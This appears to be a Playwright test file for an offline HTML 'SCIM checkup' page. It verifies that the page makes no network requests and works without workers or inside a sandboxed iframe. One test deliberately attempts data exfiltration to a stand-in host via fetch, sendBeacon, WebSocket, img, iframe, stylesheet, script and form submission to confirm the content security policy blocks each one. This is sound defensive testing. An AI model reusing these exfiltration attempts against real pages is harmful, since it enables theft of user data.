// The checkup in one file, opened from the disk as by a double-click.
import { readFile } from "node:fs/promises";
import { CORRUPTED, drop, expect, field, paste, test } from "./page.js";

const FILE = new URL("../../dist/scim-checkup-offline.html", import.meta.url);
const OBJECT_ID = "195f30d5-1651-4ba3-8b1c-0b993fb809d7";

/** Every request but the page's own and what it makes of its own bytes. */
function requests(page) {
  const asked = [];
  page.context().on("request", (request) => {
    if (request.url() !== FILE.href && !/^(blob|data):/.test(request.url())) asked.push(request.url());
  });
  return asked;
}

/** Pastes the corrupted name, then drops a file. */
async function pasteAndDrop(page) {
  await paste(page, CORRUPTED);
  await expect(page.getByText(OBJECT_ID).first()).toBeVisible();
  await expect(page.getByRole("heading", { name: /Is the username corrupted\? Corrupted/ })).toBeVisible();
  await page.getByRole("button", { name: "Clear" }).first().click();
  await field(page).waitFor();
  await drop(page, [{ name: "two.csv", text: `email,active\nada@contoso.com,true\n${CORRUPTED},false\n` }]);
  await expect(page.getByRole("option", { name: /ada@contoso\.com/ })).toBeVisible();
  await expect(page.getByRole("option", { name: /JSmith@company\.com/ })).toBeVisible();
}

test("from the disk it answers a paste and a file, asks for nothing and says nothing", async ({ page }) => {
  const asked = requests(page);
  await page.goto(FILE.href);
  await pasteAndDrop(page);
  expect(page.workers().map((it) => it.url().split(":")[0])).toEqual(["blob"]);
  expect(asked).toEqual([]);
});

test("from the disk nothing gets out, from the page or from its worker", async ({ page, said }) => {
  await page.goto(FILE.href);
  await paste(page, CORRUPTED);
  await expect(page.getByText(OBJECT_ID).first()).toBeVisible();
  // Up to here the policy was in nobody's way.
  expect(said).toEqual([]);

  const send = () => fetch("https://elsewhere.invalid/?secret").then(() => "sent", () => "blocked");
  expect(await page.workers()[0].evaluate(send)).toBe("blocked");
  expect(await page.evaluate(send)).toBe("blocked");
  const blocked = await page.evaluate(async () => {
    const blocked = [];
    document.addEventListener("securitypolicyviolation", (it) => blocked.push(it.effectiveDirective));
    const attempt = (act) => {
      try {
        act();
      } catch {
        // What throws is reported as well.
      }
    };
    const append = (name, more) => document.body.append(Object.assign(document.createElement(name), more));
    attempt(() => navigator.sendBeacon("https://elsewhere.invalid/", "secret"));
    attempt(() => new WebSocket("wss://elsewhere.invalid/"));
    attempt(() => append("img", { src: "https://elsewhere.invalid/?secret" }));
    attempt(() => append("iframe", { src: "https://elsewhere.invalid/?secret" }));
    attempt(() => append("link", { rel: "stylesheet", href: "https://elsewhere.invalid/" }));
    attempt(() => append("script", { text: "secret()" }));
    attempt(() => append("form", { action: "https://elsewhere.invalid/", method: "post" }));
    attempt(() => document.querySelector("form").submit());
    await new Promise((resolve) => setTimeout(resolve, 300));
    return [...new Set(blocked)].sort();
  });
  expect(blocked).toEqual([
    "connect-src",
    "form-action",
    "frame-src",
    "img-src",
    "require-trusted-types-for",
    "style-src-elem",
  ]);
  said.splice(0);
});

test("where no worker may start the file works in its page", async ({ page }) => {
  const asked = requests(page);
  await page.addInitScript(() => delete globalThis.Worker);
  await page.goto(FILE.href);
  await paste(page, CORRUPTED);
  await expect(page.getByText(OBJECT_ID).first()).toBeVisible();
  await expect(page.getByText("This page lets no worker start")).toBeVisible();
  expect(page.workers()).toEqual([]);
  expect(asked).toEqual([]);
});

test("written into a frame without an address the file works as well", async ({ page }) => {
  const asked = requests(page);
  const text = await readFile(FILE, "utf8");
  await page.evaluate((text) => {
    const frame = Object.assign(document.createElement("iframe"), { title: "Checkup", srcdoc: text, width: 900, height: 800 });
    frame.sandbox = "allow-scripts allow-downloads";
    document.body.append(frame);
  }, text);
  const inside = page.frameLocator("iframe");
  await field(inside).fill(CORRUPTED);
  await expect(inside.getByText(OBJECT_ID).first()).toBeVisible();
  expect(asked).toEqual([]);
});
